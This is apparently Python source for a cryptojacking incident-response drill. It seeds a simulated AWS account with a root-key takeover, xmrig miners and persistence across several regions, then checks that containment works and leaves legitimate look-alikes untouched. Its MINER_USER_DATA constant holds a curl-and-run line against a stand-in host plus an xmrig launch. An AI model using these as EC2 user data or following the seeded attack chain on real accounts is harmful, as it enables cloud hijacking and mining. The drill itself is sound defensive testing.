"""`stanch drill`: the reference attack in an in-process simulated account (moto), plus what real
crews add (a miner in a second region, auto scaling, a schedule, EC2 miners, a spot request and
Auto Scaling groups, one of them hijacked, in a third region),
contained end to end by the reference playbook, then checked: containment, relaunchers disarmed,
decoys untouched, every region searched, the attacker's own key denied, and a second run that
applies nothing."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, TextIO

import boto3
from botocore.exceptions import ClientError

from runner.aws import AwsSession
from runner.document import RunDocument
from runner.engine import RunOptions
from runner.errors import MissingExtraError
from runner.incident import validate_incident
from runner.journal import SqliteJournal
from runner.service import AwsOptions, start_run
from runner.status import ChangeStatus, RunStatus

REGION = "us-east-1"
ACCOUNT = "123456789012"
ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
ROOT_KEY = "AKIAEXAMPLEROOTKEY01"
_HIDDEN_ENV = ("AWS_PROFILE", "AWS_DEFAULT_PROFILE", "AWS_ENDPOINT_URL", "AWS_SESSION_TOKEN",
               "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE",
               # the drill runs on the packaged defaults: a production config would send its notifications
               # (webhook, SNS) about the fake incident and point the journal at the shared table
               "STANCH_CONFIG", "STANCH_CONFIG_OVERLAY", "STANCH_JOURNAL")


@contextmanager
def simulated_account() -> Iterator[boto3.Session]:
    """An in-process moto account with AWS-managed policies, isolated from any real AWS config."""
    from moto import mock_aws

    saved = {k: os.environ.pop(k) for k in _HIDDEN_ENV if k in os.environ}
    os.environ["AWS_CONFIG_FILE"] = os.environ["AWS_SHARED_CREDENTIALS_FILE"] = os.devnull
    try:
        with mock_aws(config={"iam": {"load_aws_managed_policies": True}}):
            yield boto3.Session(aws_access_key_id="testing", aws_secret_access_key="testing",
                                region_name=REGION)
    finally:
        for k in ("AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE"):
            os.environ.pop(k, None)
        os.environ.update(saved)


def _stamp() -> str:
    return datetime.now(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def _network(ec2: Any) -> dict[str, Any]:
    vpc = ec2.describe_vpcs(Filters=[{"Name": "isDefault", "Values": ["true"]}])["Vpcs"][0]["VpcId"]
    subnet = ec2.describe_subnets(Filters=[{"Name": "vpc-id", "Values": [vpc]}])["Subnets"][0]["SubnetId"]
    sg = ec2.describe_security_groups(Filters=[{"Name": "vpc-id", "Values": [vpc]}])["SecurityGroups"][0]["GroupId"]
    return {"awsvpcConfiguration": {"subnets": [subnet], "securityGroups": [sg], "assignPublicIp": "ENABLED"}}


def _service(ecs: Any, net: dict[str, Any], cluster: str, name: str, image: str, count: int) -> str:
    ecs.create_cluster(clusterName=cluster)
    td = ecs.register_task_definition(
        family=name, requiresCompatibilities=["FARGATE"], networkMode="awsvpc", cpu="1024", memory="2048",
        containerDefinitions=[{"name": "app", "image": image, "memory": 2048, "essential": True}],
    )["taskDefinition"]["taskDefinitionArn"]
    ecs.create_service(cluster=cluster, serviceName=name, taskDefinition=td, desiredCount=count,
                       launchType="FARGATE", networkConfiguration=net)
    # moto services never start tasks: start them as the service scheduler would
    ecs.run_task(cluster=cluster, taskDefinition=td, count=count, group=f"service:{name}",
                 startedBy=f"ecs-svc/{name}", launchType="FARGATE", networkConfiguration=net)
    return str(td)


def seed(session: boto3.Session, names: dict[str, str] | None = None) -> dict[str, Any]:
    """Seed the reference chain (names overridable) next to legitimate look-alikes; return the
    native incident and what the checks need."""
    n = {"user": "cluster_admin", "group": "ecs_dev", "cluster": "prod_app", "service": "prod_app",
         "image": "xmrig/xmrig", **(names or {})}
    iam, ecs, ec2 = session.client("iam"), session.client("ecs"), session.client("ec2")
    net = _network(ec2)
    # legitimate look-alikes, created before the incident
    iam.create_group(GroupName="platform-admins")
    iam.attach_group_policy(GroupName="platform-admins", PolicyArn=ADMIN)
    iam.create_user(UserName="alice")
    iam.add_user_to_group(GroupName="platform-admins", UserName="alice")
    alice_key = iam.create_access_key(UserName="alice")["AccessKey"]
    iam.create_user(UserName="ops-oncall")
    iam.create_access_key(UserName="ops-oncall")
    iam.create_user(UserName="breakglass-admin")
    iam.attach_user_policy(UserName="breakglass-admin", PolicyArn=ADMIN)
    _service(ecs, net, "web", "frontend", "public.ecr.aws/nginx/nginx:1.27", 2)
    time.sleep(0.02)
    window_start = _stamp()
    time.sleep(0.02)
    # the attack: root key -> admin user and group -> miner on Fargate
    iam.create_user(UserName=n["user"])
    attacker_key = iam.create_access_key(UserName=n["user"])["AccessKey"]
    iam.create_login_profile(UserName=n["user"], Password="Drill-only-pa55word!", PasswordResetRequired=False)
    iam.create_group(GroupName=n["group"])
    iam.attach_group_policy(GroupName=n["group"], PolicyArn=ADMIN)
    iam.add_user_to_group(GroupName=n["group"], UserName=n["user"])
    _service(ecs, net, n["cluster"], n["service"], n["image"], 2)
    time.sleep(0.02)
    incident = {
        "id": "INC-DRILL-0001", "kind": "cryptojacking", "account_id": ACCOUNT, "region": REGION,
        "detected_at": _stamp(), "window_start": window_start, "severity": "critical",
        "summary": "Drill: root access key used to create an admin user and group; miner on ECS Fargate",
        "principals": [{"type": "root", "access_key_id": ROOT_KEY}, {"type": "user", "name": n["user"]},
                       {"type": "group", "name": n["group"]}],
        "resources": [{"type": "ecs_cluster", "name": n["cluster"]}],
        "indicators": {"images": ["xmrig"], "policy_arns": [ADMIN]},
    }
    return {"incident": incident, "names": n, "attacker_key": attacker_key, "alice_key": alice_key}


class TrailWriter:
    """CloudTrail records for what a drill or a test did (moto records none), with event ids,
    times, a source IP and a user agent, as a real trail file would hold them."""

    def __init__(self, account: str = ACCOUNT, region: str = REGION, when: str | None = None) -> None:
        self.account, self.region, self.when = account, region, when or _stamp()
        self.records: list[dict[str, Any]] = []

    def root(self, key: str = ROOT_KEY) -> dict[str, Any]:
        return {"type": "Root", "principalId": self.account, "arn": f"arn:aws:iam::{self.account}:root",
                "accountId": self.account, "accessKeyId": key}

    def user(self, name: str, key: str) -> dict[str, Any]:
        return {"type": "IAMUser", "principalId": f"AIDA{abs(hash(name)) % 10**12:012d}",
                "arn": f"arn:aws:iam::{self.account}:user/{name}", "accountId": self.account, "accessKeyId": key,
                "userName": name}

    def role(self, role: str, session: str, key: str) -> dict[str, Any]:
        return {"type": "AssumedRole", "principalId": f"AROA:{session}",
                "arn": f"arn:aws:sts::{self.account}:assumed-role/{role}/{session}", "accountId": self.account,
                "accessKeyId": key, "sessionContext": {"sessionIssuer": {
                    "type": "Role", "arn": f"arn:aws:iam::{self.account}:role/{role}", "userName": role}}}

    def add(self, who: dict[str, Any], source: str, name: str, req: Any = None, resp: Any = None, *,
            ip: str = "203.0.113.7", agent: str = "aws-cli/2.15 Python/3.11", region: str | None = None,
            error: str | None = None) -> dict[str, Any]:
        rec = {"eventVersion": "1.08", "userIdentity": who, "eventTime": self.when,
               "eventSource": f"{source}.amazonaws.com", "eventName": name, "awsRegion": region or self.region,
               "sourceIPAddress": ip, "userAgent": agent, "requestParameters": req, "responseElements": resp,
               "eventID": f"drill-{len(self.records) + 1:04d}", "recipientAccountId": self.account,
               "eventType": "AwsApiCall"}
        if error:
            rec["errorCode"] = error
        self.records.append(rec)
        return rec

    def document(self) -> dict[str, Any]:
        return {"Records": self.records}


def attack_trail(seeded: dict[str, Any], trail: TrailWriter | None = None) -> TrailWriter:
    """The CloudTrail of `seed`'s attack: root creates the user, key, password, group and admin
    attachment; the user creates the cluster, task definition and service."""
    t = trail or TrailWriter(when=seeded["incident"]["window_start"])
    n, key = seeded["names"], seeded["attacker_key"]["AccessKeyId"]
    root = t.root()
    t.add(root, "sts", "GetCallerIdentity")
    t.add(root, "iam", "CreateUser", {"userName": n["user"]}, {"user": {"userName": n["user"]}})
    t.add(root, "iam", "CreateAccessKey", {"userName": n["user"]},
          {"accessKey": {"accessKeyId": key, "userName": n["user"], "status": "Active"}})
    t.add(root, "iam", "CreateLoginProfile", {"userName": n["user"], "passwordResetRequired": False})
    t.add(root, "iam", "CreateGroup", {"groupName": n["group"]})
    t.add(root, "iam", "AttachGroupPolicy", {"groupName": n["group"], "policyArn": ADMIN})
    t.add(root, "iam", "AddUserToGroup", {"groupName": n["group"], "userName": n["user"]})
    me = t.user(n["user"], key)
    t.add(me, "ecs", "CreateCluster", {"clusterName": n["cluster"]})
    t.add(me, "ecs", "RegisterTaskDefinition", {"family": n["service"], "requiresCompatibilities": ["FARGATE"],
                                                "containerDefinitions": [{"name": "app", "image": n["image"]}]})
    t.add(me, "ecs", "CreateService", {"cluster": n["cluster"], "serviceName": n["service"], "desiredCount": 2})
    return t
#: where the richer attack puts its second miner service and its EC2 miners
SECOND_REGION = "eu-central-1"
THIRD_REGION = "ap-southeast-1"
MINER_USER_DATA = ("#!/bin/bash\ncurl -sL https://198.51.100.7/x.sh -o /tmp/x.sh && sh /tmp/x.sh\n"
                   "./xmrig -o pool:443 -k\n")
_SCHEDULER_ROLE = f"arn:aws:iam::{ACCOUNT}:role/ecs-events"


def base_image(ec2: Any) -> str:
    """An AMI to launch from: Amazon's, or (a simulated account set up without moto's public AMI
    catalogue) one registered here."""
    images = ec2.describe_images(Owners=["amazon"])["Images"]
    if images:
        return str(images[0]["ImageId"])
    return str(ec2.register_image(Name="drill-base-image", RootDeviceName="/dev/xvda",
                                  Architecture="x86_64")["ImageId"])


def _instances(ec2: Any, user_data: str, count: int, kind: str) -> list[str]:
    image = base_image(ec2)
    found = ec2.run_instances(ImageId=image, MinCount=count, MaxCount=count, InstanceType=kind, UserData=user_data)
    return [i["InstanceId"] for i in found["Instances"]]


def seed_persistence(session: boto3.Session, seeded: dict[str, Any]) -> dict[str, Any]:
    """What real crews add to the reference chain, each next to a legitimate look-alike: the miner in a
    second region, auto scaling with a minimum of 3 on the miner service, a schedule that runs the miner
    task ten at a time every five minutes, and large EC2 instances with a miner in their user data in a
    third region."""
    n = seeded["names"]
    ecs2 = session.client("ecs", region_name=SECOND_REGION)
    net2 = _network(session.client("ec2", region_name=SECOND_REGION))
    _service(ecs2, net2, "web", "frontend", "public.ecr.aws/nginx/nginx:1.27", 2)  # decoy
    _service(ecs2, net2, n["cluster"], n["service"], n["image"], 3)
    aas = session.client("application-autoscaling", region_name=REGION)
    for cluster, service, low in ((n["cluster"], n["service"], 3), ("web", "frontend", 2)):
        aas.register_scalable_target(ServiceNamespace="ecs", ResourceId=f"service/{cluster}/{service}",
                                     ScalableDimension="ecs:service:DesiredCount", MinCapacity=low, MaxCapacity=10)
    ecs = session.client("ecs")
    miner_td = ecs.describe_services(cluster=n["cluster"], services=[n["service"]])["services"][0]["taskDefinition"]
    web_td = ecs.describe_services(cluster="web", services=["frontend"])["services"][0]["taskDefinition"]
    scheduler = session.client("scheduler", region_name=REGION)
    for name, cluster, td in (("cache-warmer", n["cluster"], miner_td), ("frontend-smoke-test", "web", web_td)):
        scheduler.create_schedule(
            Name=name, ScheduleExpression="rate(5 minutes)", FlexibleTimeWindow={"Mode": "OFF"},
            Target={"Arn": f"arn:aws:ecs:{REGION}:{ACCOUNT}:cluster/{cluster}", "RoleArn": _SCHEDULER_ROLE,
                    "EcsParameters": {"TaskDefinitionArn": td, "TaskCount": 10 if cluster != "web" else 1}})
    ec2 = session.client("ec2", region_name=THIRD_REGION)
    miners = _instances(ec2, MINER_USER_DATA, 4, "c5.9xlarge")
    legit = _instances(ec2, "#!/bin/bash\nsystemctl start nginx\n", 1, "t3.small")
    return {"miner_instances": miners, "legit_instances": legit, **_seed_relaunchers(session, seeded)}


def _seed_relaunchers(session: boto3.Session, seeded: dict[str, Any]) -> dict[str, Any]:
    """In the third region: a persistent spot request the attacker's user made (and a legitimate one), an
    Auto Scaling group the attacker created, a legitimate group whose launch template the attacker
    switched to a miner (it would replace a stopped instance), and a legitimate group left alone."""
    import base64

    n = seeded["names"]
    ec2 = session.client("ec2", region_name=THIRD_REGION)
    asg = session.client("autoscaling", region_name=THIRD_REGION)
    image = base_image(ec2)

    def spec(user_data: str, kind: str) -> dict[str, Any]:
        return {"ImageId": image, "InstanceType": kind, "UserData": base64.b64encode(user_data.encode()).decode()}

    spot = ec2.request_spot_instances(InstanceCount=1, Type="persistent",
                                      LaunchSpecification=spec("#!/bin/bash\n./setup.sh\n", "c5.4xlarge"))
    legit_spot = ec2.request_spot_instances(InstanceCount=1, LaunchSpecification=spec("#!/bin/bash\necho ci\n",
                                                                                       "t3.small"))
    zones = [z["ZoneName"] for z in ec2.describe_availability_zones()["AvailabilityZones"]][:1]
    for lt, user_data in (("render-lt", "#!/bin/bash\n./render\n"), ("batch-lt", MINER_USER_DATA),
                          ("web-lt", "#!/bin/bash\nsystemctl start nginx\n")):
        ec2.create_launch_template(LaunchTemplateName=lt, LaunchTemplateData=spec(user_data, "c5.large"))
    for group, lt in (("render-farm", "render-lt"), ("batch-workers", "batch-lt"), ("web-asg", "web-lt")):
        asg.create_auto_scaling_group(AutoScalingGroupName=group, MinSize=1, MaxSize=4, DesiredCapacity=1,
                                      LaunchTemplate={"LaunchTemplateName": lt}, AvailabilityZones=zones)
    sir = spot["SpotInstanceRequests"][0]
    t = TrailWriter(when=seeded["incident"]["window_start"])
    me = t.user(n["user"], seeded["attacker_key"]["AccessKeyId"])
    t.add(me, "ec2", "RequestSpotInstances", {"instanceCount": 1, "type": "persistent"},
          {"spotInstanceRequestSet": {"items": [{"spotInstanceRequestId": sir["SpotInstanceRequestId"]}]}},
          region=THIRD_REGION)
    t.add(me, "autoscaling", "CreateAutoScalingGroup", {"autoScalingGroupName": "render-farm"}, region=THIRD_REGION)
    return {"spot_request": sir["SpotInstanceRequestId"], "spot_instance": sir.get("InstanceId"),
            "legit_spot_request": legit_spot["SpotInstanceRequests"][0]["SpotInstanceRequestId"],
            "trail": t.records}


def persistence_snapshot(session: boto3.Session) -> dict[str, Any]:
    """Relaunchers and compute outside the home region, for before/after comparison."""
    snap: dict[str, Any] = {"services": {}, "scaling": {}, "schedules": {}, "instances": {}}
    ecs2 = session.client("ecs", region_name=SECOND_REGION)
    for cluster in ecs2.list_clusters()["clusterArns"]:
        arns = ecs2.list_services(cluster=cluster)["serviceArns"]
        for s in ecs2.describe_services(cluster=cluster, services=arns)["services"] if arns else []:
            snap["services"][s["serviceArn"]] = s["desiredCount"]
    aas = session.client("application-autoscaling", region_name=REGION)
    for t in aas.describe_scalable_targets(ServiceNamespace="ecs")["ScalableTargets"]:
        snap["scaling"][t["ResourceId"]] = {"min": t["MinCapacity"],
                                            "suspended": sorted(k for k, v in (t.get("SuspendedState") or {}).items()
                                                                if v)}
    for sch in session.client("scheduler", region_name=REGION).list_schedules()["Schedules"]:
        snap["schedules"][sch["Name"]] = sch["State"]
    ec2 = session.client("ec2", region_name=THIRD_REGION)
    for r in ec2.describe_instances()["Reservations"]:
        for i in r["Instances"]:
            snap["instances"][i["InstanceId"]] = i["State"]["Name"]
    snap["spot"] = {r["SpotInstanceRequestId"]: r["State"]
                    for r in ec2.describe_spot_instance_requests()["SpotInstanceRequests"]}
    snap["groups"] = {g["AutoScalingGroupName"]: {
        "min": g["MinSize"], "desired": g["DesiredCapacity"],
        "suspended": sorted(p["ProcessName"] for p in g.get("SuspendedProcesses") or []),
        "instances": sorted(i["InstanceId"] for i in g.get("Instances") or [])}
        for g in session.client("autoscaling", region_name=THIRD_REGION).describe_auto_scaling_groups()[
            "AutoScalingGroups"]}
    return snap


def root_keys_present(present: bool) -> None:
    """moto cannot create root access keys; mark the account as having one, as the reference does."""
    from moto.iam.models import iam_backends

    iam_backends[ACCOUNT]["global"].account_summary._account_access_keys_present = 1 if present else 0


def account_snapshot(session: boto3.Session) -> dict[str, Any]:
    """Every IAM and ECS attribute containment could change, for before/after comparison."""
    iam, ecs = session.client("iam"), session.client("ecs")
    snap: dict[str, Any] = {"users": {}, "groups": {}, "services": {}, "tasks": {}}
    for u in iam.list_users()["Users"]:
        name = u["UserName"]
        try:
            iam.get_login_profile(UserName=name)
            login = True
        except ClientError:
            login = False
        snap["users"][name] = {
            "keys": {k["AccessKeyId"]: k["Status"] for k in iam.list_access_keys(UserName=name)["AccessKeyMetadata"]},
            "groups": sorted(g["GroupName"] for g in iam.list_groups_for_user(UserName=name)["Groups"]),
            "attached": sorted(
                p["PolicyArn"] for p in iam.list_attached_user_policies(UserName=name)["AttachedPolicies"]),
            "inline": sorted(iam.list_user_policies(UserName=name)["PolicyNames"]),
            "login_profile": login,
            "mfa": sorted(d["SerialNumber"] for d in iam.list_mfa_devices(UserName=name)["MFADevices"]),
        }
    for g in iam.list_groups()["Groups"]:
        snap["groups"][g["GroupName"]] = sorted(
            p["PolicyArn"] for p in iam.list_attached_group_policies(GroupName=g["GroupName"])["AttachedPolicies"])
    for cluster in ecs.list_clusters()["clusterArns"]:
        arns = ecs.list_services(cluster=cluster)["serviceArns"]
        if arns:
            for s in ecs.describe_services(cluster=cluster, services=arns)["services"]:
                snap["services"][s["serviceArn"]] = {"desiredCount": s["desiredCount"], "status": s["status"]}
        for t in ecs.list_tasks(cluster=cluster)["taskArns"]:
            snap["tasks"][t] = ecs.describe_tasks(cluster=cluster, tasks=[t])["tasks"][0]["desiredStatus"]
    return snap


def attacker_key_denied(session: boto3.Session, key: dict[str, Any], control: dict[str, Any]) -> tuple[bool, str]:
    """With moto's IAM enforcement on, the attacker's own key is denied and a legitimate admin's is not."""
    from moto import settings
    from moto.core.authorization import ActionAuthenticatorMixin

    def try_call(k: dict[str, Any]) -> str:
        s = boto3.Session(aws_access_key_id=k["AccessKeyId"], aws_secret_access_key=k["SecretAccessKey"],
                          region_name=REGION)
        try:
            s.client("iam").list_users()
            return "allowed"
        except ClientError as exc:
            return str(exc.response["Error"]["Code"])

    saved = (settings.INITIAL_NO_AUTH_ACTION_COUNT, ActionAuthenticatorMixin.request_count)
    settings.INITIAL_NO_AUTH_ACTION_COUNT = 0
    ActionAuthenticatorMixin.request_count = 0
    try:
        attacker, legit = try_call(key), try_call(control)
    finally:
        settings.INITIAL_NO_AUTH_ACTION_COUNT, ActionAuthenticatorMixin.request_count = saved
    ok = attacker != "allowed" and legit == "allowed"
    return ok, f"attacker key: {attacker}; legitimate admin key: {legit}"


def _write_private(path: Path, text: str) -> None:
    """Owner-only from the start, like everything else in the state directory."""
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | getattr(os, "O_NOFOLLOW", 0), 0o600)
    with os.fdopen(fd, "w", encoding="utf-8") as f:
        f.write(text)


#: moto is the `drill` extra, not a runtime dependency: stanch contains real accounts without it
INSTALL_DRILL = "pip install 'stanch[drill]'  (from a checkout: pip install '.[drill]')"


def require_moto() -> None:
    """The drill's simulated account is moto: without it, say how to install it (exit 2)."""
    try:
        import moto  # noqa: F401
    except ImportError:
        raise MissingExtraError(f"stanch drill needs moto for its simulated account, which is an optional extra: "
                                f"{INSTALL_DRILL}. Nothing was run.") from None


def run_drill(*, dry_run: bool, state: Path, names: dict[str, str] | None = None,
              stream: TextIO | None = None) -> dict[str, Any]:
    """Seed, contain and check. The runs' log goes to `stream` (none by default: the scorecard says it all)."""
    require_moto()
    state.mkdir(parents=True, exist_ok=True, mode=0o700)
    with simulated_account() as session:
        seeded = seed(session, names)
        extra = seed_persistence(session, seeded)
        root_keys_present(True)
        n = seeded["names"]
        inc_path = state / f"drill-incident-{int(time.time())}.json"
        _write_private(inc_path, json.dumps(seeded["incident"], indent=2))
        incident = validate_incident(str(inc_path), seeded["incident"])
        trail_path = state / f"drill-trail-{int(time.time())}.json"
        records = [*attack_trail(seeded).records, *extra["trail"]]
        _write_private(trail_path, json.dumps({"Records": records}))
        trail = (records, [f"trail file {trail_path} (the drill's own record of the attack)"])
        before = account_snapshot(session)
        before_extra = persistence_snapshot(session)
        options = RunOptions(dry_run=dry_run, approve_all=True, by="drill",
                             reason="drill: approvals recorded as the drill's")

        def go() -> dict[str, Any]:
            aws = AwsSession(region=REGION, boto_session=session, dry_run=dry_run)
            return start_run(incident, playbook_ref=None, config_path=None, options=options,
                             aws_opts=AwsOptions(region=REGION), state=state, session=aws, trail=trail,
                             stream=stream, journal=SqliteJournal(state)).result  # the drill's own account

        result = go()
        doc = RunDocument.model_validate(result)
        after = account_snapshot(session)
        after_extra = persistence_snapshot(session)
        checks: list[tuple[str, bool, str]] = []

        def check(name: str, ok: bool, detail: str = "") -> None:
            checks.append((name, bool(ok), detail))

        if dry_run:
            check("run planned", doc.status == RunStatus.PLANNED, doc.status)
            check("nothing changed in the account", before == after and before_extra == after_extra,
                  "IAM, ECS, auto scaling, schedules and EC2 snapshots compared")
            planned = sum(len(s.changes) for s in doc.steps)
            check("the plan contains the containment", planned >= 6, f"{planned} changes planned")
        else:
            atk = after["users"][n["user"]]
            check("run contained (root key left as a manual action)",
                  doc.status in RunStatus.DONE, doc.status)
            check("attacker's access keys inactive", all(s == "Inactive" for s in atk["keys"].values()),
                  json.dumps(atk["keys"]))
            check("attacker's console password removed", not atk["login_profile"])
            check("attacker removed from its groups", not atk["groups"], json.dumps(atk["groups"]))
            check("attacker quarantined (deny-all inline policy)", "stanch-quarantine" in atk["inline"])
            check(f"AdministratorAccess detached from {n['group']}", not after["groups"][n["group"]])
            miner = [v for k, v in after["services"].items() if k.endswith(f"/{n['cluster']}/{n['service']}")]
            check("miner service scaled to 0", bool(miner) and miner[0]["desiredCount"] == 0)
            miner_tasks = [v for k, v in after["tasks"].items() if f"/{n['cluster']}/" in k]
            check("miner tasks stopped", bool(miner_tasks) and all(v == "STOPPED" for v in miner_tasks))
            manual = " ".join(m.instructions for m in doc.manual_actions)
            check("root key handed over as a manual action with its id", ROOT_KEY in manual)
            for decoy in ("alice", "ops-oncall", "breakglass-admin"):
                check(f"legitimate user {decoy} untouched", before["users"][decoy] == after["users"][decoy])
            check("legitimate admin group platform-admins untouched",
                  before["groups"]["platform-admins"] == after["groups"]["platform-admins"])
            web = {k: v for k, v in after["services"].items() if "/web/" in k}
            check("legitimate service web/frontend untouched",
                  web == {k: v for k, v in before["services"].items() if "/web/" in k})
            check("legitimate tasks still running",
                  all(v == "RUNNING" for k, v in after["tasks"].items() if "/web/" in k))
            _check_persistence(check, n, extra, before_extra, after_extra, result)
            ok, detail = attacker_key_denied(session, seeded["attacker_key"], seeded["alice_key"])
            check("attacker's own key denied (moto IAM enforcement)", ok, detail)
            again = go()
            applied_again = RunDocument.model_validate(again).changes_in(ChangeStatus.APPLIED)
            check("a second run of the same incident applies nothing", not applied_again,
                  f"{len(applied_again)} changes applied on the second run")
        contained = [
            {"step": s.id, "operation": c.operation, "target": c.target, "params": c.params, "previous": c.previous}
            for s, c in doc.changes_in(ChangeStatus.APPLIED, ChangeStatus.PLANNED)
        ]
        return {
            "drill": "cryptojacking-root-key", "dry_run": dry_run, "run_id": doc.run_id,
            "run_status": doc.status, "passed": all(ok for _, ok, _ in checks),
            "checks": [{"check": c, "ok": ok, "detail": d} for c, ok, d in checks],
            "contained": contained,
            "left_alone": [e.model_dump() for e in doc.scope.excluded] if doc.scope else [],
            "manual_actions": result["manual_actions"],
            "metrics": result.get("metrics", {}),
            "incident_file": str(inc_path),
        }


def _check_persistence(check: Any, n: dict[str, str], extra: dict[str, Any], before: dict[str, Any],
                       after: dict[str, Any], result: dict[str, Any]) -> None:
    second = {k: v for k, v in after["services"].items() if k.endswith(f"/{n['cluster']}/{n['service']}")}
    check(f"miner service in {SECOND_REGION} scaled to 0", bool(second) and set(second.values()) == {0},
          json.dumps(second))
    decoy = {k: v for k, v in after["services"].items() if "/web/" in k}
    check(f"legitimate service web/frontend in {SECOND_REGION} untouched",
          bool(decoy) and decoy == {k: v for k, v in before["services"].items() if "/web/" in k})
    target = after["scaling"].get(f"service/{n['cluster']}/{n['service']}", {})
    check("miner's scalable target suspended with MinCapacity 0",
          target.get("min") == 0 and len(target.get("suspended", [])) == 3, json.dumps(target))
    check("legitimate scalable target web/frontend untouched",
          after["scaling"].get("service/web/frontend") == before["scaling"].get("service/web/frontend"))
    check("schedule running the miner task disabled", after["schedules"].get("cache-warmer") == "DISABLED")
    check("legitimate schedule untouched", after["schedules"].get("frontend-smoke-test") == "ENABLED")
    miners = [after["instances"].get(i) for i in extra["miner_instances"]]
    check(f"miner EC2 instances in {THIRD_REGION} stopped (not terminated)",
          bool(miners) and set(miners) == {"stopped"}, json.dumps(miners))
    check(f"legitimate EC2 instance in {THIRD_REGION} untouched",
          all(after["instances"].get(i) == "running" for i in extra["legit_instances"]))
    spot = after.get("spot", {})
    check(f"attacker's persistent spot request in {THIRD_REGION} cancelled (its instance kept, then stopped)",
          spot.get(extra["spot_request"], "cancelled") == "cancelled"
          and after["instances"].get(extra["spot_instance"]) == "stopped",
          f"request {spot.get(extra['spot_request'], 'cancelled')}, instance "
          f"{after['instances'].get(extra['spot_instance'])}")
    check("legitimate spot request untouched", spot.get(extra["legit_spot_request"]) == "active")
    groups = after.get("groups", {})
    render = groups.get("render-farm", {})
    check("attacker's Auto Scaling group render-farm: launches suspended, scaled to 0",
          render.get("min") == 0 and render.get("desired") == 0
          and {"Launch", "ReplaceUnhealthy", "HealthCheck"} <= set(render.get("suspended", [])), json.dumps(render))
    batch, was = groups.get("batch-workers", {}), before.get("groups", {}).get("batch-workers", {})
    stopped = [after["instances"].get(i) for i in was.get("instances", [])]
    check("hijacked group batch-workers: stops launching, not scaled down, its miner instance stopped",
          {"Launch", "ReplaceUnhealthy"} <= set(batch.get("suspended", [])) and batch.get("desired") == was.get(
              "desired") and bool(stopped) and set(stopped) == {"stopped"}, json.dumps({**batch, "states": stopped}))
    check("legitimate Auto Scaling group web-asg untouched",
          groups.get("web-asg") == before.get("groups", {}).get("web-asg"))
    regions = (result.get("coverage") or {}).get("regions", [])
    check("every region searched, including the three used by the attack",
          {REGION, SECOND_REGION, THIRD_REGION} <= set(regions), f"{len(regions)} regions")


def scorecard_text(card: dict[str, Any]) -> str:
    """The scorecard as plain text (tables, no styling)."""
    import io

    from runner.ui import console, render_scorecard

    buf = io.StringIO()
    render_scorecard(console(buf, color=False), card)
    return buf.getvalue()
